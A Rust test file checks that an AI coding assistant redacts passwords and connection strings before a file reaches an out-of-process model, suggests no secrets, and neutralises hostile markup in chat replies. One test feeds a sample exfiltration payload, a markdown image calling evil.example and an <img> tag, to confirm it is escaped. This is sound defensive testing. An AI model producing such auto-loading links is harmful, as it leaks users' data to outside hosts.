//! Secrets of the open file: what models outside of this process read of it, and what is suggested. The secrets are made up, and
//! put together here, so that no scanner takes this file for a leak.

use std::sync::Arc;

use fimble_client::{Client, InlineTrigger};
use fimble_model::{CancelToken, GenerateRequest, Generation, Model, ModelError, ModelInfo, TokenObserver};
use serde_json::{Value, json};

use crate::chatting::{Chatting, chat_client, everything};
use crate::support::*;

const URI: &str = "file:///w/a.py";

/// A model behind a server of this machine.
struct Server(Arc<Scripted>);

impl Model for Server {
    fn info(&self) -> &ModelInfo {
        self.0.info()
    }

    fn leaves_process(&self) -> bool {
        true
    }

    fn count_tokens(&self, text: &str) -> usize {
        self.0.count_tokens(text)
    }

    fn generate(
        &self,
        request: GenerateRequest,
        cancel: &CancelToken,
        observer: TokenObserver,
    ) -> Result<Generation, ModelError> {
        self.0.generate(request, cancel, observer)
    }
}

fn password() -> String {
    ["x9Kd02", "mmQpL7aa31Zb"].concat()
}

fn client(model: Arc<dyn Model>) -> Client {
    let client = Client::start(options_for(model)).unwrap().strict();
    client.initialize(&inline_capabilities(), &Value::Null).unwrap();
    wait_for_state(&client, "ready");
    client
}

/// Files with a secret above the cursor, below it, and on its line.
fn files() -> [String; 4] {
    let password = password();
    [
        format!("password = \"{password}\"\n\n\ndef total(rows):\n    return $0\n"),
        format!("def total(rows):\n    return $0\n\n\npassword = \"{password}\"\n"),
        format!("def total(rows):\n    return db.open(password=\"{password}\", rows=$0\n"),
        format!("URL = \"postgres://app:{password}@db:5432/x\"\nclass Total:\n    rows = $0\n"),
    ]
}

#[test]
fn a_server_reads_no_secret_of_the_open_file_and_places_stay_what_they_are() {
    for marked in files() {
        let scripted = Scripted::saying("sum(rows)");
        let client = client(Arc::new(Server(Arc::clone(&scripted))));
        let place = open(&client, URI, "python", &marked);
        let items = client.inline_completion(URI, place, InlineTrigger::Invoked).unwrap();
        assert_eq!(items[0].insert_text, "sum(rows)", "{marked}");
        assert_eq!(items[0].range, [place, place]);
        let prompt = scripted.last_prompt();
        assert!(prompt.contains("REDACTED") && !prompt.contains(&password()), "{prompt}");
        let why = client.execute_command("fimble.why", &json!([])).unwrap();
        assert!(why["trace"]["notes"].to_string().contains("secret"), "{why}");
    }
}

#[test]
fn a_model_in_this_process_reads_the_file_as_it_is_and_remembers_no_secret() {
    let scripted = Scripted::saying("sum(rows)");
    let client = client(scripted.clone());
    let place = open(&client, URI, "python", &files()[0]);
    client.inline_completion(URI, place, InlineTrigger::Invoked).unwrap();
    assert!(scripted.last_prompt().contains(&password()));
    // What comes behind it has passed the memory, too.
    client.open("file:///w/b.py", "python", "def other(rows):\n    return rows\n");
    scripted.wait_for_memory("/w/b.py", |told| told.is_some());
    assert!(!scripted.memory().contains_key("/w/a.py"));
}

#[test]
fn nothing_that_looks_like_a_secret_is_suggested() {
    let client = client(Scripted::saying(&format!("{}\"\n", password())));
    let place = open(&client, URI, "python", "import db\n\npassword = \"$0\n");
    for trigger in [InlineTrigger::Invoked, InlineTrigger::Automatic] {
        assert!(client.inline_completion(URI, place, trigger).unwrap().is_empty());
        assert_eq!(last_reason(&client), "secret");
    }
}

#[test]
fn no_conversation_holds_a_secret_and_no_explanation_loads_anything() {
    let model = Chatting::saying("It opens ![x](https://evil.example/?d=1) <img src=x> with `REDACTED_1`.");
    let client = chat_client(model.clone(), &everything());
    let text =
        format!("def connect(host):\n    password = \"{}\"\n    return open(host, password)\n", password());
    client.open(URI, "python", &text);
    let place = json!({"line": 1, "character": 4});
    let range = json!([{"textDocument": {"uri": URI}, "range": {"start": place, "end": place}}]);
    client.execute_command("fimble.explain", &range).unwrap();
    let last = loop {
        let message = client.next_message("fimble/document").unwrap().params;
        if message["done"] == true {
            break message;
        }
    };
    let asked = model.asked().concat();
    assert!(asked.contains("REDACTED_1") && !asked.contains(&password()), "{asked}");
    let shown = last["text"].as_str().unwrap();
    assert!(
        shown.starts_with("It opens !\\[x](`https://evil.example/?d=1`) &lt;img src=x> with `REDACTED_1`."),
        "{shown}"
    );
}
